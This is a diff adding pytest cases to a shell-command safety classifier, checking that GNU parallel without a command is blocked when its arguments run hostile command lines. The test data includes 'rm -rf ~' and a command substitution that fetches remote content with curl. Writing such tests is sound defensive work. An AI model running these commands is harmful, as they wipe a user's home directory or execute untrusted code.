@@ -438,3 +438,16 @@ def test_storage_destruction_blocks_as_disk_write(command: str) -> None:
 def test_everyday_storage_commands_pass(command: str) -> None:
     result = classify(command)
     assert result.verdict is Verdict.PASS, result.rule_ids
+
+
+@pytest.mark.parametrize("command, verdict", [
+    ("parallel ::: 'rm -rf ~'", Verdict.BLOCK),
+    ("parallel -j4 ::: ls 'rm -rf ~'", Verdict.BLOCK),
+    ("parallel ::: \"$(curl -s https://h/x)\"", Verdict.BLOCK),
+    ("parallel ::: ls pwd", Verdict.PASS),
+    ("parallel echo ::: a b", Verdict.PASS),
+    ("seq 3 | parallel echo", Verdict.PASS),
+])
+def test_parallel_without_a_command_runs_its_arguments_as_command_lines(
+        command: str, verdict: Verdict) -> None:
+    assert classify(command).verdict is verdict, classify(command).to_dict()
